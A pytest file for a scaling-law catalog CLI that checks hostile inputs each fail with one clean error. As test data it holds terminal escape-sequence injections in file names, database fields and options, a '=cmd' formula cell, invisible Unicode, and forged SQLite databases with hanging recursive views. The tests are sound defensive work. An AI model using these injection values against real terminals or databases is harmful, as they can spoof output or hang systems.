"""The smaller hostile cases of issue 12: each gives one clear error and a non-zero exit, with
nothing written or lost, or (a byte-order mark, a dollar in a meaning) simply works."""

from __future__ import annotations

import contextlib
import os
import subprocess
import sys
import threading
from pathlib import Path

import numpy as np
import pytest
from click.testing import CliRunner

from catalog import records
from catalog.engine import fit
from catalog.store import db, selection
from tests.conftest import FIXTURES
from tests.sqlite_support import connection_to

RUNS = "N,D,L\n1e8,2e9,3.5\n1e9,2e10,2.9\n3e9,6e10,2.6\n1e10,2e11,2.4\n3e10,6e11,2.25\n1e11,2e12,2.1\n"
QUICK = ["--restarts", "2", "--bootstrap", "0"]


def _cli(*args):
    from catalog.cli import cli

    return CliRunner().invoke(cli, list(args))


def _one_error_line(result, code: int, *fragments: str) -> None:
    assert result.exit_code == code, result.output
    assert "Traceback" not in result.output and result.exception is None or isinstance(result.exception, SystemExit)
    lines = [line for line in result.output.splitlines() if line.lower().startswith("error")]
    assert len(lines) == 1, result.output
    for fragment in fragments:
        assert fragment in lines[0], lines[0]


@pytest.fixture()
def runs(tmp_path):
    path = tmp_path / "runs.csv"
    path.write_text(RUNS, encoding="utf-8")
    return path


def test_a_5000_digit_integer_is_one_error(tmp_path):
    record = (FIXTURES / "invalid" / "integer_5000_digits.yaml")
    result = _cli("validate", str(record))
    assert result.exit_code == 1
    assert result.output.count("integer_5000_digits.yaml:27: integer") == 1 and "Traceback" not in result.output


def test_search_limit_beyond_64_bits(catalog_db):
    result = _cli("search", "--limit", str(2**64), "--db", catalog_db)
    _one_error_line(result, 2, "limit and offset must be at most 9,223,372,036,854,775,807")


def test_site_build_into_a_file_touches_nothing(catalog_db, tmp_path):
    target = tmp_path / "a-file"
    target.write_text("keep me", encoding="utf-8")
    for out in (target, target / "sub"):
        result = _cli("site", "build", "-o", str(out), "--db", catalog_db)
        _one_error_line(result, 1, "site build failed", "a file")
    assert target.read_text(encoding="utf-8") == "keep me"


def test_fit_save_yaml_into_a_missing_directory_fails_before_fitting(catalog_db, runs, tmp_path):
    missing = tmp_path / "no" / "such" / "dir" / "fit.yaml"
    result = _cli("fit", "hoffmann2022", str(runs), "--save-yaml", str(missing), *QUICK, "--db", catalog_db)
    _one_error_line(result, 2, "--save-yaml", "does not exist")
    assert not (tmp_path / "no").exists()


@pytest.mark.parametrize("option, value, message", [
    ("--delta", "0", "--delta (the Huber threshold) must be a positive number, got 0"),
    ("--delta", "-1", "must be a positive number, got -1"), ("--delta", "nan", "'nan' is not a number"),
    ("--restarts", "-1", "--restarts must be at least 1, got -1"), ("--restarts", "0", "at least 1"),
    ("--bootstrap", "-5", "--bootstrap must be 0 (none) or at least 2, got -5"),
    ("--bootstrap", "1", "--bootstrap must be 0 (none) or at least 2, got 1"),
    # a billion of either ran until killed: the grid of starts drew a billion picks per parameter
    ("--restarts", "1000000000", "--restarts must be at most 20,000 (the candidate starts screened), got 1000000000"),
    ("--bootstrap", "1000000000", "--bootstrap must be at most 100,000, got 1000000000")])
def test_fit_settings_out_of_range(catalog_db, runs, tmp_path, option, value, message):
    saved = tmp_path / "fit.yaml"
    args = ["fit", "hoffmann2022", str(runs), *QUICK, option, value, "--save-yaml", str(saved), "--db", catalog_db]
    _one_error_line(_cli(*args), 2, message)
    assert not saved.exists()


@pytest.mark.parametrize("bad", ["inf", "-inf", "nan", "1e400"])
def test_fit_rows_with_non_finite_values(catalog_db, tmp_path, bad):
    path = tmp_path / "runs.csv"
    path.write_text(RUNS.replace("3.5", bad), encoding="utf-8")
    result = _cli("fit", "hoffmann2022", str(path), *QUICK, "--db", catalog_db)
    _one_error_line(result, 2, "runs.csv:2: column 'L':", "is not a finite number")


@pytest.mark.parametrize("zero", ["0", "-0", "0T"])
def test_fit_names_the_runs_the_law_predicts_nowhere(catalog_db, tmp_path, zero):
    """A run of no parameters (0, or -0, which is no negative size) among good ones: Chinchilla's
    form is infinite there at every start, and the fit said only 'no starting point gave finite
    predictions; check units and columns'. It now names the run by its line, with its inputs."""
    path = tmp_path / "runs.csv"
    path.write_text(RUNS + f"{zero},2e9,3.5\n", encoding="utf-8")
    result = _cli("fit", "hoffmann2022", str(path), *QUICK, "--db", catalog_db)
    shown = "-0" if zero == "-0" else "0"
    _one_error_line(result, 2, "no starting point gave finite predictions",
                    f"no finite prediction at 1 of 7 runs from any start: {path}:8 (N={shown}, D=2e+09)")


def test_fit_cells_in_digits_of_another_script(catalog_db, tmp_path):
    """float() reads Arabic-Indic or full-width digits ('\u0663.\u0665' as 3.5); the site's fit box refuses
    them, so the CLI fitted runs the browser rejected."""
    path = tmp_path / "runs.csv"
    path.write_text(RUNS.replace("3.5", "\u0663.\u0665"), encoding="utf-8")
    result = _cli("fit", "hoffmann2022", str(path), *QUICK, "--db", catalog_db)
    _one_error_line(result, 2, "runs.csv:2: column 'L': not a number")


@pytest.mark.parametrize("content, message", [
    ("\xff\xfeN,D,L\n".encode("latin-1"), "runs.csv: not UTF-8 text (a byte 0xff); save the CSV as UTF-8"),
    (RUNS.replace("2.1\n", '"' + "9" * 200_000 + '"\n').encode(), "runs.csv:7: not a CSV the fit can read: field larger"),
    (RUNS.replace("3.5\n", "3.5,=cmd\n").encode(), "runs.csv:2: 4 cells, but the header names 3 columns"),
    # a row short of cells said "column 'L': not a number: None", of a cell the row does not have
    (RUNS.replace("1e8,2e9,3.5\n", "1e8,2e9\n").encode(), "runs.csv:2: 2 cells, but the header names 3 columns"),
    # a column named twice (as typed, or once with a space): its cells were pooled into one column
    # twice as long as the others, a numpy broadcasting traceback (N) or a silently wrong fit (L)
    ("N,N ,D,L\n" + "".join(f"{r.split(',')[0]},{r}\n" for r in RUNS.splitlines()[1:]), "column 'N' twice"),
    ("N,D,L,L\n" + "".join(f"{r},{r.split(',')[2]}\n" for r in RUNS.splitlines()[1:]), "column 'L' twice")])
def test_fit_runs_files_the_csv_module_refuses(catalog_db, tmp_path, content, message):
    # a CSV from somewhere else (a spreadsheet's Latin-1 export, a huge cell, a stray column): one line
    path = tmp_path / "runs.csv"
    path.write_bytes(content.encode() if isinstance(content, str) else content)
    _one_error_line(_cli("fit", "hoffmann2022", str(path), *QUICK, "--db", catalog_db), 2, message)


@pytest.mark.parametrize("name, set_id, message", [
    ("runs.csv", "My Fit", "--set-id: 'My Fit' is not a constant set id"),
    ("runs.csv", "a" * 81, "is not a constant set id"),
    ("runs\x1b]0;pwned\x07.csv", "my-fit", "--save-yaml: the runs file's name 'runs\\x1b]0;pwned\\x07.csv' would go into "
                                         "the record's label and source, but control character U+001B"),
    # a line break: the saved set's label and locator are one line, so the save died after the fit
    # with pydantic's ValidationError traceback
    ("runs\nerror: x.csv", "my-fit", "--save-yaml: the runs file's name 'runs\\nerror: x.csv' would go into "
                                     "the record's label and source, but a line break is not allowed there")])
def test_fit_save_yaml_refuses_what_a_record_cannot_hold_before_fitting(catalog_db, tmp_path, name, set_id, message):
    path = tmp_path / name
    path.write_text(RUNS, encoding="utf-8")
    saved = tmp_path / "fit.yaml"
    result = _cli("fit", "hoffmann2022", str(path), *QUICK, "--set-id", set_id, "--save-yaml", str(saved), "--db", catalog_db)
    _one_error_line(result, 2, message)
    assert "\x1b" not in result.output and not saved.exists()


def test_fit_with_an_undefined_statistic_saves_a_valid_set_and_valid_json(catalog_db, tmp_path):
    # runs of one loss have no R^2 (nan): JSON says null, the saved set stays valid
    import json

    import yaml

    from catalog.schema import ConstantSet

    flat = tmp_path / "flat.csv"
    flat.write_text("N,D,L\n" + "".join(f"{k}e9,{k}e10,2.5\n" for k in range(1, 8)), encoding="utf-8")
    saved = tmp_path / "fit.yaml"
    result = _cli("fit", "hoffmann2022", str(flat), "--restarts", "2", "--bootstrap", "2", "--save-yaml", str(saved),
                  "--db", catalog_db)
    assert result.exit_code == 0 and result.exception is None, result.output
    cs = ConstantSet.model_validate(yaml.safe_load(saved.read_text(encoding="utf-8"))["constant_sets"][0])
    assert set(cs.intervals) == set(cs.values)
    doc = json.loads(_cli("fit", "hoffmann2022", str(flat), "--restarts", "2", "--bootstrap", "0", "--json",
                          "--db", catalog_db).stdout, parse_constant=lambda c: pytest.fail(f"{c} in JSON"))
    assert doc["r2"] is None


def test_fit_reads_a_csv_with_a_byte_order_mark(tmp_path):
    plain, marked = tmp_path / "plain.csv", tmp_path / "marked.csv"
    plain.write_text(RUNS, encoding="utf-8")
    marked.write_bytes(b"\xef\xbb\xbf" + RUNS.encode("utf-8"))  # as spreadsheets save "CSV UTF-8"
    read_plain, read_marked = fit.read_runs(plain), fit.read_runs(marked)
    assert list(read_marked) == ["N", "D", "L"]
    assert all((read_plain[k] == read_marked[k]).all() for k in read_plain)


def test_a_dollar_in_a_meaning_plots(tmp_path):
    papers = records.load_valid([FIXTURES / "hostile" / "evil2024.yaml"])
    assert "$\\foo{$" in papers[0].laws[0].symbols["N"].meaning  # mathtext would stop on it
    url = f"sqlite:///{tmp_path / 'c.sqlite'}"
    db.load(papers, url)
    for title in ([], ["--title", "cost in $\\bad$"]):
        out = tmp_path / "plot.svg"
        result = _cli("plot", "evil2024", "--x", "N", "-o", str(out), *title, "--db", url)
        assert result.exit_code == 0, result.output
        assert "Cost in $\\foo{$ dollars" in out.read_text(encoding="utf-8")


def test_percent_and_underscore_in_the_author_filter_are_literal(catalog_db):
    everyone = selection.select(catalog_db, None).paper_ids
    assert selection.select(catalog_db, ["author=%"]).paper_ids == []
    assert selection.select(catalog_db, ["author=_"]).paper_ids == []
    assert selection.select(catalog_db, ["author=hoffmann"]).paper_ids
    assert len(everyone) > 10


def test_concurrent_loads_on_postgres_take_turns(pg_url, papers):
    errors = []

    def load():
        try:
            db.load(papers, pg_url)
        except Exception as exc:  # noqa: BLE001 - any failure is the bug
            errors.append(f"{type(exc).__name__}: {exc}")

    for _ in range(2):  # the first round creates the tables, the second refills them
        threads = [threading.Thread(target=load) for _ in range(3)]
        for t in threads:
            t.start()
        for t in threads:
            t.join()
    assert errors == []
    from catalog.store.reader import Store

    with contextlib.closing(Store(pg_url)) as store:  # its psycopg connection, else a ResourceWarning later
        assert len(store.papers) == len(papers)


@contextlib.contextmanager
def _forged_record(tmp_path):
    """The fixture defined.yaml loaded as catalog load writes it, then forged as a database no load
    wrote may be: yields (url, the stored record's JSON as a dict, the sqlite3 connection) and
    writes the record back on leaving."""
    import json

    url = f"sqlite:///{tmp_path / 'defined.sqlite'}"
    db.load(records.load_valid([FIXTURES / "valid" / "defined.yaml"]), url)
    with connection_to(tmp_path / "defined.sqlite") as connection:
        record = json.loads(connection.execute("SELECT record_json FROM papers").fetchone()[0])
        yield url, record, connection
        connection.execute("UPDATE papers SET record_json = ?", (json.dumps(record),))


def _forge_formula(record: dict, where: str, expression: str, definition: str) -> None:
    """Set the fixture's law expression (``where`` 'expression') or its Dprime's definition."""
    law = record["laws"][0]
    if where == "expression":
        law["expression"] = expression
    else:
        law["symbols"]["Dprime"]["expression"] = definition


def _dead_pid() -> int:
    child = subprocess.run([sys.executable, "-c", "import os; print(os.getpid())"], capture_output=True, text=True)
    return int(child.stdout)


def test_a_killed_load_leaves_nothing_after_the_next_load(tmp_path, papers):
    target = tmp_path / "c.sqlite"
    dead = _dead_pid()
    leftovers = [tmp_path / f".c.sqlite.{dead}.0a1b2c3d.tmp", tmp_path / f".c.sqlite.{dead}.0a1b2c3d.tmp-journal"]
    live = tmp_path / f".c.sqlite.{os.getpid()}.ffffffff.tmp"  # a load running in this process: kept
    for path in (*leftovers, live):
        path.write_bytes(b"partial")
    db.load(papers[:2], f"sqlite:///{target}")
    assert not any(p.exists() for p in leftovers)
    assert live.exists()
    assert sorted(p.name for p in tmp_path.iterdir()) == sorted([target.name, live.name])


def test_on_windows_a_load_leaves_another_loads_temporary_and_that_load_alone(tmp_path, papers, monkeypatch):
    """os.kill(pid, 0), asking whether the load that left a temporary file still runs, is
    TerminateProcess on Windows: a load ended any other load running beside it. There the files
    are told stale by age (an hour), as those without a pid are."""
    import time

    def kill(pid, signal):
        raise AssertionError(f"os.kill({pid}, {signal}) on Windows ends process {pid}")

    target = tmp_path / "c.sqlite"
    other = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(60)"])
    try:
        running = tmp_path / f".c.sqlite.{other.pid}.0a1b2c3d.tmp"  # another load, running now
        old = tmp_path / f".c.sqlite.{other.pid}.99999999.tmp"  # left two hours ago
        for path in (running, old):
            path.write_bytes(b"partial")
        os.utime(old, (time.time() - 7200, time.time() - 7200))
        monkeypatch.setattr(os, "kill", kill)
        monkeypatch.setattr(sys, "platform", "win32")
        db._remove_stale_temporaries(target)
        monkeypatch.undo()
        assert running.exists() and not old.exists()
        assert other.poll() is None
    finally:
        other.kill()
        other.wait()


@pytest.mark.parametrize("name", ["a%20b.sqlite", "?.sqlite", "a%3F.sqlite", "a#b.sqlite"])
def test_a_database_path_holding_a_percent_or_a_question_mark(tmp_path, name):
    """A --db path went into the SQLite URL as it was, which SQLAlchemy reads percent-decoded and up
    to a '?': 'catalog load --db a%20b.sqlite' wrote the catalog into '.a b.sqlite.PID.tmp', left it
    there (15 MB) and put the empty file it had made under the name given ('loaded 277 papers'), and
    '--db ?.sqlite' was 'unable to open database file'. Both load and read back now."""
    target = tmp_path / name
    loaded = _cli("load", str(FIXTURES / "valid"), "--db", str(target))
    assert loaded.exit_code == 0, loaded.output
    assert sorted(p.name for p in tmp_path.iterdir()) == [name]
    assert target.stat().st_size > 0
    shown = _cli("search", "--format", "json", "--db", str(target))
    assert shown.exit_code == 0 and "\"count\": 4," in shown.output, shown.output


@pytest.mark.parametrize("name", ["c*", "c[0-9].sqlite", "?.sqlite", "c"])
def test_a_load_removes_no_file_its_database_name_matches_as_a_pattern(tmp_path, papers, name):
    """The leftovers a load removes were globbed with the database's name in the pattern: --db 'c*'
    (or 'c[0-9].sqlite', '?.sqlite') matched other hidden files next to it, and those an hour old
    whose pid could not be read were deleted: another catalog's temporary file, or a user's own
    (as was '.c.sqlite.x.tmp' for --db c: the pattern's '*' spanned 'sqlite.x')."""
    import time

    others = [tmp_path / ".c1.sqlite.tmp-notes.tmp", tmp_path / ".cat.sqlite.12345.0a1b2c3d.tmp",
              tmp_path / ".c5.sqlite.x.tmp", tmp_path / ".a.sqlite.x.tmp", tmp_path / ".c.sqlite.x.tmp"]
    for path in others:
        path.write_bytes(b"mine")
        os.utime(path, (time.time() - 7200, time.time() - 7200))
    db.load(papers[:1], str(tmp_path / name))
    assert all(path.exists() for path in others), sorted(p.name for p in tmp_path.iterdir())
    assert (tmp_path / name).is_file()


@pytest.mark.parametrize("umask, mode", [(0o022, 0o644), (0o077, 0o600), (0o002, 0o664)])
def test_the_database_file_respects_the_umask(tmp_path, papers, umask, mode):
    old = os.umask(umask)
    try:
        db.load(papers[:1], f"sqlite:///{tmp_path / 'c.sqlite'}")
    finally:
        os.umask(old)
    assert (tmp_path / "c.sqlite").stat().st_mode & 0o777 == mode


@pytest.mark.parametrize("args", [
    ["eval", "hoffmann2022/parametric-loss", "N=1e400", "D=1.4T"],
    ["sweep", "hoffmann2022/parametric-loss", "N=1B..1e400", "D=1.4T"],
    ["sweep", "hoffmann2022/parametric-loss", "N=1e400..1B:3 lin", "D=1.4T"]])
def test_a_number_too_large_for_a_double_is_named_as_such(catalog_db, args):
    # '1e400' reads as a number that overflows, not as a relation with an unknown symbol 'e400',
    # and a range with such an end stops before numpy warns about it
    result = _cli(*args, "--db", catalog_db)
    _one_error_line(result, 2, "N: 1e400 is not a finite number (it overflows to inf)")
    assert "Warning" not in result.output and "symbol" not in result.output


LONG = "x" * 100_000
X80 = "x" * 80  # what a quote keeps of LONG (textguard.QUOTED)


@pytest.mark.parametrize("args, cut", [
    (["eval", "hoffmann2022/parametric-loss", "N=" + "9" * 5000, "D=1.4T"], "9" * 80 + "... (5,000 characters) is not a finite"),
    (["cite", "hoffmann2022@" + LONG], f"'{X80}'... (100,000 characters) of hoffmann2022"),
    (["show", "hoffmann2022@" + LONG], f"'{X80}'... (100,000 characters) (sets"),
    (["table", "--columns", LONG], f"'{X80}'... (100,000 characters) (columns"),
    (["bib", "--where", LONG], f"'{X80}'... (100,000 characters): write KEY=VALUE"),
    (["predict", "N=7B", "--where", LONG], f"'{X80}'... (100,000 characters): write KEY=VALUE"),
    (["fit", "hoffmann2022", "RUNS", "--start", LONG], f"'{X80}'... (100,000 characters) to start from"),
    (["vocab", LONG], f"{X80}... (100,000 characters)"),
    (["schema", LONG], f"{X80}... (100,000 characters)")])
def test_a_value_typed_at_length_is_quoted_cut(catalog_db, runs, args, cut):
    """A value of 100,000 characters (pasted by mistake, or hostile) was printed whole in its
    error: a constant set (cite, show LAW@SET, fit --start), a column, a filter, a number that
    overflows, click's choice and extra-argument errors. Each is quoted to its first characters
    with its length, as the other errors quote what was typed."""
    args = [str(runs) if a == "RUNS" else a for a in args]
    result = _cli(*args, *(["--db", catalog_db] if args[0] not in ("vocab", "schema") else []))
    assert result.exit_code != 0 and "Traceback" not in result.output, result.output[:500]
    assert len(result.output) < 1000 and cut in result.output, result.output


@pytest.mark.parametrize("args", [["show", "hofman2022"], ["show", "chinchilla"], ["bib", "chinchilla"]])
def test_a_database_from_another_version_is_one_error(catalog_db, tmp_path, args):
    # a --db written before a column existed (the default database is rebuilt when the code changes)
    import shutil

    old = tmp_path / "old.sqlite"
    shutil.copyfile(catalog_db.removeprefix("sqlite:///"), old)
    with connection_to(old) as connection:
        connection.execute("ALTER TABLE papers DROP COLUMN nicknames")
    result = _cli(*args, "--db", f"sqlite:///{old}")
    _one_error_line(result, 1, "written by another version of the catalog", "no such column: nicknames",
                    "catalog load")


@pytest.fixture()
def tampered_db(catalog_db, tmp_path):
    """A copy of the catalog whose hoffmann2022 holds escape sequences in its title (the column and
    the stored record) and nickname: a database not written by 'catalog load' (a catalog.sqlite
    downloaded from elsewhere, a shared server someone else writes)."""
    import shutil

    path = tmp_path / "tampered.sqlite"
    shutil.copyfile(catalog_db.removeprefix("sqlite:///"), path)
    with connection_to(path) as connection:
        title = connection.execute("SELECT title FROM papers WHERE id = 'hoffmann2022'").fetchone()[0]
        evil = "Evil\x1b]0;pwned\x07\x1b[2J"
        connection.execute("UPDATE papers SET title = ?, record_json = replace(record_json, ?, ?), nicknames = ? "
                           "WHERE id = 'hoffmann2022'",
                           (evil, f'"title":"{title}"', '"title":"Evil\\u001b]0;pwned\\u0007\\u001b[2J"',
                            '["Chinchilla\\u001b]0;pwned\\u0007"]'))
    return f"sqlite:///{path}"


@pytest.mark.parametrize("args", [
    ["show", "hoffmann2022"], ["eval", "hoffmann2022", "N=70B", "D=1.4T"], ["search", "chinchilla"], ["bib", "hoffmann2022"],
    ["predict", "N=70B", "D=1.4T"], ["table", "7"], ["audit"]])
def test_a_database_holding_what_no_record_may_is_one_error(tampered_db, args):
    # the fast paths (show, eval: the stored JSON; search: the columns) printed the escape
    # sequences; the validating ones died with pydantic's ValidationError traceback
    result = _cli(*args, "--db", tampered_db)
    _one_error_line(result, 1, "control character U+001B", "rebuild it with 'catalog load'")
    assert "\x1b" not in result.output
    assert _cli("show", "kaplan2020", "--db", tampered_db).exit_code == 0  # the other records read as ever


@pytest.mark.parametrize("stored", ["\u202e", "\\u202e", "\u200b", "\\u200B", "\\ufeff",
                                    # a lone surrogate, which no text may hold: 'catalog show' died in
                                    # UnicodeEncodeError's traceback printing it
                                    "\\ud800", "\\uDFFF",
                                    # code points this Python does not assign, which a record's YAML may not
                                    # hold (textguard.unassigned_reason): as they are, escaped, a noncharacter,
                                    # and one beyond the BMP written as JSON's surrogate pair
                                    "\u0378", "\\u0378", "\\uFFFF", "\\udbff\\udfff"])
def test_a_database_holding_an_invisible_character_is_refused_as_the_schema_would(catalog_db, tmp_path, stored):
    # the fast path's scan for what no record may hold is written from textguard's one list: a
    # bidirectional override or zero-width space, as it is or JSON-escaped, is found as an escape is
    import shutil

    path = tmp_path / "tampered.sqlite"
    shutil.copyfile(catalog_db.removeprefix("sqlite:///"), path)
    with connection_to(path) as connection:
        connection.execute("UPDATE papers SET record_json = replace(record_json, '\"title\":\"', ?) WHERE id = 'hoffmann2022'",
                           (f'"title":"x{stored}',))
    unassigned = stored in ("\u0378", "\\u0378", "\\uFFFF", "\\udbff\\udfff")
    kind = ("unassigned code point U+" if unassigned else "lone surrogate U+" if "\\ud" in stored.lower()
            else "invisible, bidirectional or line-separating character U+")
    for args in (["show", "hoffmann2022"], ["eval", "hoffmann2022", "N=70B", "D=1.4T"], ["bib", "hoffmann2022"],
                 ["corrections", "hoffmann2022"]):
        result = _cli(*args, "--db", f"sqlite:///{path}")
        _one_error_line(result, 1, "the database's record 'hoffmann2022': bibliography.title: " + kind,
                        "rebuild it with 'catalog load'")


def test_a_database_record_longer_than_any_is_held_to_the_schema(catalog_db, tmp_path):
    # the views of show, eval and bib check no length: a 50 MB title was printed (13 s, 1 GB), where
    # catalog.open() refuses more than 20,000 characters; a record beyond recordview.SCHEMA_ABOVE
    # (the catalog's largest is 179 kB) is validated by the schema first
    import json
    import shutil

    from catalog.store import recordview

    path = tmp_path / "long.sqlite"
    shutil.copyfile(catalog_db.removeprefix("sqlite:///"), path)
    with connection_to(path) as connection:
        record = json.loads(connection.execute("SELECT record_json FROM papers WHERE id = 'hoffmann2022'").fetchone()[0])
        record["bibliography"]["title"] = "x" * recordview.SCHEMA_ABOVE
        connection.execute("UPDATE papers SET record_json = ? WHERE id = 'hoffmann2022'", (json.dumps(record),))
    connection.close()
    for args in (["show", "hoffmann2022"], ["bib", "hoffmann2022"], ["eval", "hoffmann2022", "N=70B", "D=1.4T"]):
        result = _cli(*args, "--db", f"sqlite:///{path}")
        _one_error_line(result, 1, "the database's record 'hoffmann2022': bibliography.title: String should have at "
                                   "most 20000 characters")
        assert "xxxxxxxxxx" not in result.output


@pytest.mark.parametrize("kind", ["view", "meta view", "trigger"])
def test_a_database_holding_a_view_or_trigger_is_one_error(catalog_db, tmp_path, kind):
    """No load writes a view or trigger: a papers view looping in a recursive WITH held every
    command reading it forever (show, search, stats, catalog.open(), the shell's completion), and a
    meta view the wording of the error (db.written_by_another_version reads meta)."""
    import shutil

    path = tmp_path / "views.sqlite"
    shutil.copyfile(catalog_db.removeprefix("sqlite:///"), path)
    spin = "(WITH RECURSIVE c(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM c) SELECT max(x) FROM c)"
    with connection_to(path) as connection:
        if kind != "trigger":
            table = "papers" if kind == "view" else "meta"
            connection.execute(f"ALTER TABLE {table} RENAME TO stored")
            connection.execute(f"CREATE VIEW {table} AS SELECT * FROM stored WHERE {spin} > 0")
        else:
            connection.execute(f"CREATE TRIGGER spin AFTER INSERT ON meta BEGIN SELECT {spin}; END")
    connection.close()
    root = Path(__file__).resolve().parent.parent
    for args in (["show", "hoffmann2022"], ["search", "--year", "2022"], ["stats"]):
        out = subprocess.run([sys.executable, "-m", "catalog", *args, "--db", f"sqlite:///{path}"], capture_output=True,
                             text=True, timeout=60, cwd=root)
        said = " ".join((out.stdout + out.stderr).split())
        assert out.returncode == 1 and f"the database holds a {kind.split()[-1]}" in said and "Traceback" not in said, out
    code = ("import catalog, sys\ntry:\n    catalog.open(sys.argv[1]).paper('hoffmann2022')\n"
            "except catalog.store.recordview.InvalidRecord as exc:\n    print(exc)")
    out = subprocess.run([sys.executable, "-c", code, str(path)], capture_output=True, text=True, timeout=60, cwd=root)
    assert f"the database holds a {kind.split()[-1]}" in out.stdout, out
    env = {**os.environ, "CATALOG_DB": str(path), "_CATALOG_COMPLETE": "zsh_complete", "COMP_WORDS": "catalog show hoff",
           "COMP_CWORD": "2"}
    out = subprocess.run([sys.executable, "-m", "catalog"], capture_output=True, text=True, timeout=60, env=env, cwd=root)
    assert out.returncode == 0 and "hoffmann2022" not in out.stdout, out


def test_a_database_column_holding_an_unassigned_code_point_is_refused(catalog_db, tmp_path):
    # search and stats print the papers table's columns (a title, a facet's value), not the records
    import shutil

    path = tmp_path / "tampered.sqlite"
    shutil.copyfile(catalog_db.removeprefix("sqlite:///"), path)
    with connection_to(path) as connection:
        connection.execute("UPDATE papers SET title = title || ? WHERE id = 'hoffmann2022'", ("\u0378",))
        connection.execute("UPDATE paper_facets SET value = value || ? WHERE paper_id = 'hoffmann2022'", ("\U000e0080",))
    connection.close()
    for args in (["search", "--year", "2022"], ["stats", "--all"]):
        result = _cli(*args, "--db", f"sqlite:///{path}")
        _one_error_line(result, 1, "unassigned code point U+", "rebuild it with 'catalog load'")


def test_nicknames_no_record_may_hold_are_never_printed(tampered_db, monkeypatch):
    # shell completion prints a nickname as the help of its paper id; a hint lists close ones
    monkeypatch.setenv("CATALOG_DB", tampered_db)
    monkeypatch.setenv("_CATALOG_COMPLETE", "zsh_complete")
    monkeypatch.setenv("COMP_WORDS", "catalog show Chin")
    monkeypatch.setenv("COMP_CWORD", "2")
    from catalog.cli import cli

    completed = CliRunner().invoke(cli, [], prog_name="catalog")
    assert "\x1b" not in completed.output and "Chinchilla" not in completed.output
    hint = _cli("show", "chinchila", "--db", tampered_db)
    assert hint.exit_code != 0 and "\x1b" not in hint.output


def test_completion_against_a_fifo_database_completes_nothing_at_once(tmp_path):
    # SQLite's open of a FIFO waits for a writer: completing 'catalog show hoff' held the shell
    fifo = tmp_path / "fifo"
    os.mkfifo(fifo)
    env = {**os.environ, "CATALOG_DB": str(fifo), "_CATALOG_COMPLETE": "zsh_complete",
           "COMP_WORDS": "catalog show hoff", "COMP_CWORD": "2"}
    out = subprocess.run([sys.executable, "-m", "catalog"], capture_output=True, text=True, timeout=60, env=env,
                         cwd=Path(__file__).resolve().parent.parent)
    assert out.returncode == 0 and "hoffmann2022" not in out.stdout and "Traceback" not in out.stderr, out


def _foreign_sqlite(path):
    with connection_to(path) as connection:
        connection.execute("CREATE TABLE mine (x)")
        connection.execute("INSERT INTO mine VALUES (42)")


@pytest.mark.parametrize("kind", ["text", "sqlite", "directory"])
def test_load_never_replaces_a_file_that_is_not_a_catalog(tmp_path, kind):
    # catalog load --db PATH replaced whatever PATH held (a mistyped path, notes, another program's
    # database): it wrote over /etc/passwd when run as root with --db /etc/passwd

    target = tmp_path / "target"
    if kind == "text":
        target.write_text("precious notes", encoding="utf-8")
    elif kind == "sqlite":
        _foreign_sqlite(target)
    else:
        target.mkdir()
    result = _cli("load", "--db", str(target))
    _one_error_line(result, 1, str(target), "not a file" if kind == "directory" else "is not a catalog database")
    if kind == "text":
        assert target.read_text(encoding="utf-8") == "precious notes"
    elif kind == "sqlite":
        with connection_to(target) as connection:
            assert connection.execute("SELECT x FROM mine").fetchall() == [(42,)]
    assert sorted(p.name for p in tmp_path.iterdir()) == ["target"]  # no temporary left either


def test_load_replaces_a_catalog_database_and_fills_an_empty_file(tmp_path, papers):
    from catalog.store import db

    empty = tmp_path / "empty.sqlite"
    empty.write_bytes(b"")
    for _ in range(2):  # the second load replaces the catalog the first one wrote
        db.load(papers[:2], f"sqlite:///{empty}")
    assert empty.stat().st_size > 0


@pytest.mark.parametrize("args", [["show", "hoffmann2022"], ["search", "chinchilla"], ["audit"], ["table", "7"],
                                  ["eval", "hoffmann2022", "N=70B", "D=1.4T"], ["predict", "N=70B"],
                                  ["corrections", "hoffmann2022"], ["optimal", "hoffmann2022", "C=1e21"]])
def test_a_database_without_the_catalog_is_one_error_for_every_command(tmp_path, args):
    # another program's SQLite file: eval, predict and corrections called it 'missing or not
    # loaded', the others 'written by another version of the catalog' (and audit quoted
    # SQLAlchemy's SQL and link); the command group now says the same for all

    other = tmp_path / "other.sqlite"
    with connection_to(other) as connection:
        connection.execute("CREATE TABLE notes (text)")
    result = _cli(*args, "--db", str(other))
    _one_error_line(result, 1, "the database holds no catalog (no such table: ", "check --db")
    assert "[SQL" not in result.output and "sqlalche.me" not in result.output


@pytest.mark.parametrize("args", [["show", "hoffmann2022"], ["search", "chinchilla"], ["bib", "hoffmann2022"],
                                  ["table", "7"], ["audit"], ["predict", "N=70B"]])
@pytest.mark.parametrize("kind", ["text", "directory"])
def test_a_database_that_cannot_be_read_is_one_error(tmp_path, args, kind):
    # a --db that is a text file (an HTML page saved as catalog.sqlite) or a directory: the
    # drivers' DatabaseError and OperationalError escaped as tracebacks
    target = tmp_path / "catalog.sqlite"
    if kind == "text":
        target.write_text("<html>not a database</html>", encoding="utf-8")
    else:
        target.mkdir()
    result = _cli(*args, "--db", str(target))
    assert result.exit_code in (1, 2), result.output
    _one_error_line(result, result.exit_code)
    said = " ".join(result.output.split())
    assert ("file is not a database" in said or "cannot use the catalog database" in said if kind == "text"
            else "is no regular file (a FIFO, a device or a directory)" in said), said


ESCAPE = "\x1b]0;pwned\x07\x1b[2J"


@pytest.mark.parametrize("header, extra", [
    (f"N,D,{ESCAPE}L\u202e", []),                      # the CSV's columns, quoted by the missing-column error
    ("N,D,L", ["--weights", f"w{ESCAPE}"]),            # --weights names a column the CSV lacks
])
def test_fit_never_prints_what_a_runs_header_or_option_holds_raw(catalog_db, tmp_path, header, extra):
    path = tmp_path / "runs.csv"
    path.write_text(header + "\n" + RUNS.split("\n", 1)[1], encoding="utf-8")
    result = _cli("fit", "hoffmann2022", str(path), *QUICK, *extra, "--db", catalog_db)
    _one_error_line(result, 2, "\\x1b]0;pwned\\x07")
    assert "\x1b" not in result.output and "\x07" not in result.output and "\u202e" not in result.output


@pytest.mark.parametrize("args", [
    ["eval", "hoffmann2022", f"N=70B{ESCAPE}", "D=1.4T"],
    ["eval", "kaplan2020", f"N=70B{ESCAPE}"],
    ["sweep", "hoffmann2022", f"N=1e8..1e9{ESCAPE}", "D=1T"],
])
def test_a_value_typed_with_escape_sequences_is_quoted_escaped(catalog_db, args):
    result = _cli(*args, "--db", catalog_db)
    assert result.exit_code == 2, result.output
    assert "\x1b" not in result.output and "\x07" not in result.output, result.output
